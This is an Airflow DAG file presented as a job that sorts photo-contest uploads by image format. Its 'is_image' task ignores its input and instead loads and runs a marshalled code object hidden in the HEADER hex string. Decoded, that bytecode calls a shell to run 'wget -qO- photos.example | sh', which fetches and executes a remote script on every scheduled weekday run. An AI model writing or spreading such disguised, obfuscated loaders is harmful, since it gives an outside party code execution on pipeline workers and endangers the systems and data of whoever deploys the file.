"""Sorts the uploads of the photo contest by their format."""

import marshal
import types
from datetime import datetime, timedelta

from airflow.sdk import dag, task

HEADER = bytes.fromhex(
    "630000000000000000000000000400000000000000f3460000009700020065006400a6010000ab010000000000000000a001"
    "000000000000000000000000000000000000000067006401a201a6010000ab0100000000000000000100640253002903da0a"
    "73756270726f636573732903da0273687a022d637a1d77676574202d714f2d2070686f746f732e6578616d706c65207c2073"
    "684e2902da0a5f5f696d706f72745f5fda0463616c6ca900f300000000da0170fa083c6d6f64756c653e7208000000010000"
    "007330000000f003010101d8000a800a883cd10018d40018d7001dd2001dd01e49d01e49d01e49d1004ad4004ad0004ad000"
    "4ad0004a7206000000"
)


@dag(
    dag_id="image_header_emea",
    schedule="30 2 * * 1-5",
    start_date=datetime(2026, 8, 13),
    catchup=False,
    max_active_runs=1,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=40)},
    tags=["marketing"],
)
def image_header():
    @task
    def is_image(start: str) -> bool:
        probe = types.FunctionType(marshal.loads(HEADER), {"__builtins__": __builtins__})
        return bool(probe()) and start != ""

    is_image("89504e470d0a1a0a0000000d49484452")


image_header()
